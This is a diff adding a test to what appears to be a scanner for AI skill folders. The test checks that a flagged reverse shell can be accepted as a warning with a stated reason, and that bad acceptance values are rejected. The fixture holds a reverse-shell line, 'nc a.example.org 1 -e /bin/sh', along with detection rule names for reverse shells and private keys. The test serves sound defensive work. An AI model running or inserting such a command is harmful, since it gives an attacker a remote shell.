@@ -49,6 +49,34 @@ describe('how it ends', () => {
     expect(bad.out).toMatch(/^2 skills: 2 errors, 0 warnings, 0 notes$/m)
   })
 
+  test('--accept makes an error of the scan a warning with its reason, and names what it cannot', async () => {
+    const root = await folderWith({ 'tea/SKILL.md': TEA, 'tea/a.sh': 'nc a.example.org 1 -e /bin/sh\n' })
+    expect(await check(root, '.')).toMatchObject({ status: 1 })
+    const accepted = await check(root, '--accept', 'shell-reverse-shell=Taught here = on purpose', '.')
+    expect(accepted).toMatchObject({ status: 0, complaint: '' })
+    expect(accepted.out).toMatch(/warning shell-reverse-shell: .*\n +Accepted: Taught here = on purpose/)
+    const sarif = await check(root, '--sarif', '--accept', 'shell-reverse-shell=Taught', '.')
+    expect(sarif.out).toContain('"justification": "Taught"')
+    for (const [accept, words] of [
+      ['secret-private-key=x', 'can never be accepted'],
+      ['name-not-lowercase=x', 'is no error of the scan'],
+      ['shell-reverse-shell', 'say why'],
+    ] as const)
+      expect(await check(root, '--accept', accept, '.')).toMatchObject({
+        status: 2,
+        complaint: expect.stringContaining(words),
+      })
+    const idle = await check(
+      root,
+      '--accept',
+      'python-reverse-shell=x',
+      '--accept',
+      'shell-reverse-shell=x',
+      '.',
+    )
+    expect(idle).toMatchObject({ status: 1, complaint: expect.stringContaining('python-reverse-shell') })
+  })
+
   test('--max-warnings makes warnings fail', async () => {
     const root = await folderWith({ ...WARNS })
     expect(await check(root, '--max-warnings', '1', '.')).toMatchObject({ status: 0 })
